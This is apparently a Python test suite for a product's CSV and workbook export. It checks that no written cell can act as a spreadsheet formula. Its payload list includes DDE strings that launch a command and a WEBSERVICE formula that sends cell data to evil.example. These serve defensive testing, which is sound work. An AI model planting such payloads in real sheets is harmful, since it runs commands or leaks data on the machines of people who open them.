"""No sheet that the product writes can compute anything, whatever people wrote into it."""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from api.cli.duedates import _print_rows
from api.sheets import backtestsheet, workbook
from core.calendarfiles import official_book
from core.domain.worktime.deadlines import deadline
from core.domain.worktime.duetable import DueRow
from core.domain.worktime.periods import Period, Roll, Unit
from core.sheets import open_sheet, write_csv, write_rows
from tests.house.source import python_files, tree
from tests.places import REPO

MARKS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","click")', "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example/"&A1)', "IMPORTXML(A1,A2)", 'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
)  # fmt: skip
BEFORE = ("", " ", "   ", "\u3000", "'", "''", " \t", "\ufeff")
PAYLOADS = [before + mark + body for before in BEFORE for mark in MARKS for body in BODIES]
#: What a spreadsheet program looks at once it has cut off what it does not count.
COMPUTED = re.compile(r"[\s\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
NUMBER = re.compile(r"-\d+(\.\d+)?")


def computed(text: str) -> list[str]:
    """The cells of a CSV file that a spreadsheet program could take for a formula."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if COMPUTED.match(cell) and not NUMBER.fullmatch(cell)]


def formulas(content: bytes) -> tuple[int, list[str]]:
    """How many texts a workbook holds, and the cells of it that are no text and no number."""
    texts, found = 0, []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            texts += cell.data_type == "s"
            if cell.data_type not in ("s", "n", "d"):
                found.append(f"{cell.coordinate} {cell.value}")
    return texts, found


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 600


def test_a_csv_file_computes_nothing_and_is_read_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [[str(number), payload] for number, payload in enumerate(PAYLOADS)]
    write_csv(path, ["n", "=said"], rows)
    assert computed(path.read_bytes().decode()) == []
    sheet = open_sheet(path)
    assert sheet.columns == ("n", "'=said")
    assert [list(row.cells.values()) for row in sheet.rows()] == rows


@settings(max_examples=100, deadline=None)
@given(cell=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00")))
def test_every_text_comes_back(tmp_path_factory: pytest.TempPathFactory, cell: str) -> None:
    path = tmp_path_factory.getbasetemp() / "any.csv"
    write_csv(path, ["n", "cell"], [["1", cell]])
    (row,) = open_sheet(path).rows()
    assert row.cells["cell"] == cell


@pytest.mark.parametrize("value", ["-1", "-12.5", "13800000000", "0571-88888888"])
def test_a_number_in_its_column_stays_one(tmp_path: Path, value: str) -> None:
    path = tmp_path / "numbers.csv"
    write_csv(path, ["n"], [[value]])
    assert path.read_bytes().decode("utf-8-sig") == f"n\r\n{value}\r\n"


def test_the_deadlines_of_a_foreign_file_compute_nothing(
    capsys: pytest.CaptureFixture[str],
) -> None:
    calendar = official_book().as_known_on(None)
    found = deadline(calendar, date(2026, 3, 2), Period(1, Unit.DAYS), Roll.NONE)
    row = DueRow(2, None, found, False, ())
    _print_rows([{"unit": "=1+1", "n": "@SUM(A1)"}], [row], as_json=False)
    said = capsys.readouterr().out
    assert "'=1+1" in said
    assert computed(said) == []


def test_a_workbook_holds_texts_and_numbers_only() -> None:
    rows = [[payload, Decimal(-1)] for payload in PAYLOADS]
    content = workbook.one_sheet("表", [("=1+1", 10), ("n", 10)], rows)
    texts, found = formulas(content)
    assert found == []
    assert texts == len(PAYLOADS) + 2


def test_a_backtest_with_payloads_everywhere_computes_nothing() -> None:
    evil = "=HYPERLINK(A1)"
    pair = [evil, "@x"]
    case = {"number": evil, "received_on": evil, "unit": evil, "category": evil, "verdict": pair,
            "grounds": [pair, pair], "timers": [{"timer": evil, "due": pair, "outcome": pair}],
            "why": [{"rule": evil, "basis": evil, "facts": evil}]}  # fmt: skip
    found: dict[str, Any] = dict.fromkeys(backtestsheet._ABOUT, evil)
    found |= {key: [{"unit": evil, evil: evil}] for key in backtestsheet._SHEETS}
    found |= {"edits": [{"edit": {"zh": evil}, "alone": 1, "needed": 2}], "listed": [case]}
    target = io.BytesIO()
    backtestsheet.write(target, found)
    texts, wrong = formulas(target.getvalue())
    assert (texts >= 40, wrong) == (True, [])


# ---------------------------------------------------------------- one place that writes


def writers(trees: Iterable[tuple[str, ast.AST]]) -> list[str]:
    """Where CSV or cells are written beside the two modules that do it safely."""
    found = []
    for name, module in trees:
        for node in ast.walk(module):
            match node:
                case ast.Attribute(value=ast.Name(id="csv"), attr="writer" | "DictWriter"):
                    found.append(f"{name}:{node.lineno}")
                case ast.Assign(targets=[ast.Attribute(attr="value", value=ast.Name(id="cell"))]):
                    found.append(f"{name}:{node.lineno}")
                case ast.Call(func=ast.Attribute(attr="append", value=value)) if _sheet(value):
                    found.append(f"{name}:{node.lineno}")
                case ast.Call(func=ast.Attribute(attr="cell"), keywords=[*_, ast.keyword("value")]):
                    found.append(f"{name}:{node.lineno}")
    return found


def _sheet(node: ast.AST) -> bool:
    return "sheet" in ast.unparse(node) or "active" in ast.unparse(node)


def test_only_two_modules_write_cells() -> None:
    safe = {REPO / "core/sheets.py", REPO / "api/sheets/workbook.py"}
    about = re.compile("csv|openpyxl|[sS]heet")
    files = [p for p in python_files() if p not in safe and about.search(p.read_text("utf-8"))]
    assert len(files) > 15
    assert writers((str(path), tree(path)) for path in files) == []


@pytest.mark.parametrize(
    "careless",
    ["csv.writer(file)", "cell.value = text", "sheet.append(row)", "book.active.append(row)",
     "sheet.cell(1, 1, value=text)"],
)  # fmt: skip
def test_a_careless_writer_would_be_found(careless: str) -> None:
    assert writers([("careless", ast.parse(careless))]) == ["careless:1"]


def test_what_a_careless_writer_makes_would_be_found() -> None:
    plain, book, file = io.StringIO(), Workbook(), io.BytesIO()
    csv.writer(plain).writerow(PAYLOADS)
    assert len(computed(plain.getvalue())) > 400
    book.active.append(["=1+1"])
    book.save(file)
    assert formulas(file.getvalue()) == (0, ["A1 =1+1"])


def test_rows_go_to_any_open_file() -> None:
    file = io.StringIO()
    write_rows(file, ["a"], [["=1"], ["x"]], "\n")
    assert file.getvalue() == "a\n'=1\nx\n"
